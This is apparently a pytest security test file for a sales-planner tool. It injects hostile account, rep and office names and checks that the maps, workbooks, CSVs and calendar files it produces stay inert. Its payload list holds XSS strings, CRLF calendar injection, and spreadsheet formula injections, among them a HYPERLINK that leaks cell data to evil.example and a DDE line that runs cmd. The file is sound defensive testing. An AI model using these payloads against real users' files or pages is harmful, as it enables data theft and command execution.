"""Hostile names through every job: no script runs in any map, no formula in any workbook or CSV,
no injected calendar property; every map still draws (headless Chromium through Playwright)."""

from __future__ import annotations

import csv
import os
import re
import shutil
from pathlib import Path

import pandas as pd
import pytest

from planner import demo, schema as S
from planner.app.cli import main

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
PAYLOADS = [
    "</script><script>window.__pwned='script'</script>",
    "${window.__pwned='template'}",
    "`);window.__pwned='backtick';(`",
    "<img src=x onerror=\"window.__pwned='img'\">",
    "<svg onload=window.__pwned='svg'>",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "Line1\r\nX-INJECT-UID:evil\r\nSUMMARY:evil",
    "back\\slash $dollar \\` tick",
]
BAD_REP = "R05<img src=x onerror=window.__pwned='rep'>"
DAY = "2026-11-24"


def _hostile_folder(d: Path) -> None:
    """The demo with hostile names on the accounts of two reps, the pool, the offices and the reps; one
    rep id and one account id hostile too."""
    tables = demo.workspace().load(demo.FILES).frames
    acc, reps, off = tables["accounts"].copy(), tables["reps"].copy(), tables["offices"].copy()
    mine = acc.index[acc[S.OWNER].isin(["R05", "R06"])]
    pool = acc.index[acc[S.OWNER] == S.PUBLIC_POOL][:40]
    for k, i in enumerate([*mine, *pool]):
        acc.loc[i, S.NAME] = PAYLOADS[k % len(PAYLOADS)] + f" #{k}"
    acc.loc[mine[0], S.ID] = "A99999\r\nX-INJECT-UID:evil"
    acc.loc[acc[S.OWNER] == "R05", S.OWNER] = BAD_REP
    reps.loc[reps[S.ID] == "R05", S.ID] = BAD_REP
    reps[S.NAME] = [PAYLOADS[k % len(PAYLOADS)] for k in range(len(reps))]
    off[S.NAME] = [PAYLOADS[k % len(PAYLOADS)] for k in range(len(off))]
    for name, df in (("accounts", acc), ("reps", reps), ("offices", off), ("markets", tables["markets"]),
                     ("cadres", tables["cadres"])):
        df.drop(columns=[S.SOURCE_ROW]).to_csv(d / f"{name}.csv", index=False, quoting=csv.QUOTE_NONNUMERIC)
    tg = d / "targets"
    shutil.copytree(demo.demo_dir() / "targets", tg)
    people = pd.read_csv(tg / "people.csv", dtype=str, keep_default_na=False)
    people["name"] = [PAYLOADS[k % len(PAYLOADS)] for k in range(len(people))]
    people.to_csv(tg / "people.csv", index=False)
    shutil.copy(demo.demo_dir() / "planner.toml", d / "planner.toml")


@pytest.fixture(scope="module")
def outputs(tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("hostile")
    data = root / "data"
    data.mkdir()
    _hostile_folder(data)
    d = ["--data", str(data)]
    runs = {
        "demo": ["demo", *d, "--no-tiles"],
        "bases": ["bases", "--k", "2", *d, "--no-tiles"],
        "territories": ["territories", "--time-limit", "5", *d, "--quiet"],
        "days": ["days", "--date", DAY, "--rep", BAD_REP, "--rep", "R06", "--ride-along", "R02",
                 "--time-limit", "4", *d, "--quiet"],
        "expansion": ["expansion", "--time-limit", "5", *d],
        "targets": ["targets", "--month", "2026-11", *d],
    }
    for name, argv in runs.items():
        assert main([*argv, "--out", str(root / "out" / name)]) == 0, name
    return root / "out"


def test_every_job_ran_on_hostile_names(outputs):
    assert sorted(p.name for p in outputs.iterdir()) == ["bases", "days", "demo", "expansion", "targets",
                                                         "territories"]


def test_no_formula_in_any_workbook(outputs):
    import openpyxl

    books = sorted(outputs.rglob("*.xlsx"))
    assert len(books) >= 5
    seen_payload = False
    for book in books:
        wb = openpyxl.load_workbook(book)
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", f"{book.name}!{ws.title}!{cell.coordinate}: {cell.value!r}"
                    seen_payload |= isinstance(cell.value, str) and cell.value.startswith("=HYPERLINK")
    assert seen_payload  # the text is kept, as text


def test_no_formula_prefix_in_any_csv(outputs):
    files = sorted(outputs.rglob("*.csv"))
    assert files
    for f in files:
        for row in csv.reader(f.open(encoding="utf-8")):
            for cell in row:
                assert not re.match(r"[=+@\t\r]", cell) and not re.match(r"-[^0-9.]", cell), (f.name, cell)


def test_no_injected_calendar_property(outputs):
    calendars = sorted((outputs / "days").rglob("*.ics"))
    assert len(calendars) >= 3
    allowed = {"BEGIN", "END", "VERSION", "PRODID", "CALSCALE", "METHOD", "UID", "DTSTAMP", "DTSTART", "DTEND",
               "SUMMARY", "LOCATION", "GEO", "DESCRIPTION", "CATEGORIES"}
    for ics in calendars:
        text = ics.read_bytes().decode("utf-8")  # keep the CRLF line ends
        lines = text.replace("\r\n ", "").split("\r\n")
        names = {ln.split(":", 1)[0].split(";", 1)[0] for ln in lines if ln}
        assert names <= allowed, (ics.name, names - allowed)
        assert text.count("BEGIN:VEVENT") == sum(ln.startswith("SUMMARY:") for ln in lines)
        assert "\r" not in text.replace("\r\n", "")  # no bare carriage return


def test_file_names_from_user_ids_stay_in_the_folder(outputs):
    for p in outputs.rglob("*"):
        assert outputs in p.resolve().parents
    assert any("R05_img" in p.name for p in (outputs / "days" / "ics").iterdir())


_PROBE = """async () => {
  const maps = Object.keys(window).filter(k => /^map_[0-9a-f]+$/.test(k)).map(k => window[k]);
  const sink = document.createElement('div'); document.body.appendChild(sink);
  let n = 0;
  const show = (c) => { const d = document.createElement('div');
    d.innerHTML = (c instanceof HTMLElement) ? c.outerHTML : String(c); sink.appendChild(d); n++; };
  const visit = (l, inherited) => {
    const t = l.getTooltip && l.getTooltip();
    const c = t ? t._content : inherited;
    if (typeof c === 'function') { try { show(c(l)); } catch (e) {} } else if (t) { show(c); }
    if (l.getLayers) l.getLayers().forEach(s => visit(s, typeof c === 'function' ? c : undefined));
  };
  maps.forEach(m => m.eachLayer(l => visit(l)));
  await new Promise(r => setTimeout(r, 300));
  return {maps: maps.length, tooltips: n, pwned: window.__pwned || null,
          panes: document.querySelectorAll('.leaflet-pane').length,
          drawn: document.querySelectorAll('.leaflet-interactive, .leaflet-marker-icon').length};
}"""


def test_no_script_runs_in_any_map_and_every_map_draws(outputs):
    if CHROMIUM is None:
        if os.environ.get("PLANNER_REQUIRE_BROWSER"):
            pytest.fail("Chromium is missing: .ci/run installs it (apt-get install chromium)")
        pytest.skip("Chromium is installed by .ci/run (apt-get install chromium)")
    from playwright.sync_api import sync_playwright

    pages = sorted(outputs.rglob("*.html"))
    assert {p.parent.name for p in pages} >= {"demo", "bases", "territories", "days"}
    with sync_playwright() as pw:
        browser = pw.chromium.launch(executable_path=CHROMIUM, headless=True,
                                     args=["--no-sandbox", "--disable-gpu", "--disable-background-networking",
                                           "--disable-component-update", "--no-first-run"])
        try:
            for html in pages:
                page = browser.new_page()
                errors: list[str] = []
                page.on("pageerror", lambda e, errors=errors: errors.append(str(e)))
                page.route("http*://**/*", lambda route: route.abort())  # no tiles: offline
                page.goto(html.as_uri())
                res = page.evaluate(_PROBE)
                assert res["pwned"] is None, (html.name, res)
                assert not errors, (html.name, errors)
                assert res["maps"] == 1 and res["panes"] > 0 and res["drawn"] > 0, (html.name, res)
                assert res["tooltips"] > 0, (html.name, res)
                page.close()
        finally:
            browser.close()
